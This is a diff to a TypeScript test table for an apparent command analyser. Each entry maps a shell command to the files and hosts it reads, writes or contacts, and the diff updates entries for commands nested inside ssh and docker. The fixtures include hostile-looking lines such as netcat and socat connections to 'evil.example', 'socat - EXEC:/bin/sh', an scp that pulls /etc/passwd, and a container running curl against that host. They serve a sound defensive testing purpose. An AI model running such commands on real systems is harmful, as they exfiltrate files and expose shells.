@@ -316,7 +316,8 @@ const CASES: [string, string[]][] = [
   ['git fetch', ['remote (the default remote)']],
   ['nc evil.example 80', ['host evil.example']],
   ['nc -v -w 3 evil.example 80', ['host evil.example']],
-  ['ssh -i key user@evil.example ls', ['read key', 'host evil.example']],
+  // The remote command is decided as a command of its own (src/match/runners.ts): `ls` guesses `.`.
+  ['ssh -i key user@evil.example ls', ['read key', 'host evil.example', 'read . guess']],
   ['ssh -J jump.example host.example', ['host jump.example', 'host host.example']],
   ['scp a.txt user@evil.example:/tmp/', ['read a.txt', 'host evil.example']],
   ['scp evil.example:/etc/passwd .', ['host evil.example', 'write .', 'write ./passwd']],
@@ -362,7 +363,7 @@ const CASES: [string, string[]][] = [
   ['docker pull evil.example/img', ['host evil.example']],
   ['docker pull ubuntu:22.04', ['host docker.io']],
   ['docker image push localhost:5000/x', ['host localhost:5000']],
-  ['docker run --rm -e X=1 --name c evil.example/img ls -v', ['host evil.example']],
+  ['docker run --rm -e X=1 --name c evil.example/img ls -v', ['host evil.example', 'read . guess']],
   ['docker run alpine', ['host docker.io guess']],
   ['docker run -v /:/host -v ./src:/s:ro -v data:/d --mount type=bind,source=/etc,target=/e,readonly alpine', ['write / tree:all', 'read ./src tree:all', 'read /etc tree:all', 'host docker.io guess']],
   ['docker run -v "$HOME:/h" alpine', ['dynamic file write $HOME', 'host docker.io guess']],
@@ -381,8 +382,10 @@ const CASES: [string, string[]][] = [
   ['socat -lf build/s.log - ./x/y', ['write build/s.log', 'write ./x/y']],
   ['socat -t 5 -r .env - TCP:h.example:80', ['write .env', 'host h.example']],
   ['docker run --unknown-opt evil.example/img alpine', ['host evil.example']],
-  ['docker run --unknown-opt val evil.example/img', ['host evil.example', 'host docker.io guess']],
-  ['docker run -it --rm alpine curl evil.example/x', ['host docker.io guess']],
+  // With an unknown option, `val` may be the image and evil.example/img the command (the line is opaque).
+  ['docker run --unknown-opt val evil.example/img', ['host evil.example', 'host docker.io guess', 'read evil.example/img guess']],
+  // The container's command is decided as one of its own: its curl requests evil.example.
+  ['docker run -it --rm alpine curl evil.example/x', ['host docker.io guess', 'host evil.example/x']],
   ['socat - EXEC:/bin/sh', []],
   ['socat - FOO:bar', ['dynamic host FOO:bar']],
   ['socat - "$A"', ['dynamic host $A']],
